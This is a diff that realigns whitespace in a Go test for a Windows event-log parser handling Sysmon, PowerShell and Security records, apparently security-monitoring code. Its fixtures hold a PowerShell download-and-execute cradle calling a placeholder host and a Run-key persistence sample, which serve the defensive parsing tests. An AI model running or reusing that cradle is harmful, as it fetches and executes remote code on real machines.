@@ -23,7 +23,7 @@ func TestParseWindows(t *testing.T) {
 				"process.pid": "2956", "process.entity_id": "{42f11c3b-ce01-5c8f-0000-0010c73e2a00}",
 				"process.parent.executable": `C:\Windows\explorer.exe`, "process.parent.name": "explorer.exe",
 				"process.parent.command_line": `C:\Windows\Explorer.EXE`, "process.parent.pid": "4424",
-				"process.parent.entity_id": "{42f11c3b-cdfc-5c8f-0000-00105f1d2a00}",
+				"process.parent.entity_id":  "{42f11c3b-cdfc-5c8f-0000-00105f1d2a00}",
 				"process.working_directory": `C:\Users\vagrant\`, "process.original_file_name": "PowerShell.EXE",
 				"process.pe.description": "Windows PowerShell", "process.pe.product": "Microsoft® Windows® Operating System",
 				"process.pe.company": "Microsoft Corporation", "process.integrity_level": "High",
@@ -116,8 +116,8 @@ func TestParseWindows(t *testing.T) {
 			line:   `{"PayloadData1":"ProcessID: 3004, ProcessGUID: 747f3d96-","PayloadData2":"RuleName: T1060","MapDescription":"Registry value set","UserName":"","Computer":"MSEDGEWIN10","Payload":"{\"EventData\": {\"Data\": [{\"@Name\": \"RuleName\", \"#text\": \"technique_id=T1547.001\"}, {\"@Name\": \"EventType\", \"#text\": \"SetValue\"}, {\"@Name\": \"UtcTime\", \"#text\": \"2019-07-21 17:08:22.421\"}, {\"@Name\": \"ProcessId\", \"#text\": \"3004\"}, {\"@Name\": \"Image\", \"#text\": \"C:\\\\Windows\\\\regedit.exe\"}, {\"@Name\": \"TargetObject\", \"#text\": \"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\Updater\"}, {\"@Name\": \"Details\", \"#text\": \"C:\\\\Users\\\\Public\\\\u.exe\"}]}}","Channel":"Microsoft-Windows-Sysmon/Operational","Provider":"Microsoft-Windows-Sysmon","EventId":13,"EventRecordId":"12","ProcessId":3052,"ThreadId":3876,"Level":"Info","Keywords":"Classic","SourceFile":"C:\\evtx\\sysmon.evtx","ExtraDataOffset":0,"HiddenRecord":false,"TimeCreated":"2019-07-21T17:08:23.9471282+00:00","RecordNumber":12}`,
 			want: map[string]string{
 				"winlog.event_id": "13", "event.category": "registry", "event.type": "change", "event.action": "SetValue",
-				"registry.path":  `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`,
-				"registry.hive":  "HKLM", "registry.key": `SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "registry.value": "Updater",
+				"registry.path": `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`,
+				"registry.hive": "HKLM", "registry.key": `SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "registry.value": "Updater",
 				"registry.data.strings": `C:\Users\Public\u.exe`, "winlog.event_data.TargetObject": `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`,
 				"winlog.event_data.RuleName": "technique_id=T1547.001", "process.pid": "3004", "process.name": "regedit.exe",
 				"winlog.process.pid": "3052", "winlog.process.thread.id": "3876", "MapDescription": "Registry value set",
@@ -162,7 +162,7 @@ func TestParseWindows(t *testing.T) {
 			line:   `{"Event":{"System":{"Provider":{"@Name":"Microsoft-Windows-PowerShell"},"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"WS01","TimeCreated":{"@SystemTime":"2024-01-02T03:04:05Z"}},"EventData":{"Data":[{"@Name":"MessageNumber","#text":"1"},{"@Name":"MessageTotal","#text":"1"},{"@Name":"ScriptBlockText","#text":"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"},{"@Name":"ScriptBlockId","#text":"b1"},{"@Name":"Path"}]}}}`,
 			want: map[string]string{
 				"event.module": "powershell", "event.dataset": "windows.powershell",
-				"winlog.event_data.ScriptBlockText":  "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
+				"winlog.event_data.ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
 				"powershell.file.script_block_text": "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
 			},
 			time: "2024-01-02T03:04:05Z",
@@ -186,7 +186,7 @@ func TestParseWindows(t *testing.T) {
 				"event.module": "security", "winlog.event_data.SubjectUserName": "mallory", "user.name": "mallory",
 			},
 			absent: []string{"winlog.event_data.xmlns"},
-			time: "2024-01-02T03:04:05Z",
+			time:   "2024-01-02T03:04:05Z",
 		},
 		{
 			name:   "unnamed Data strings",
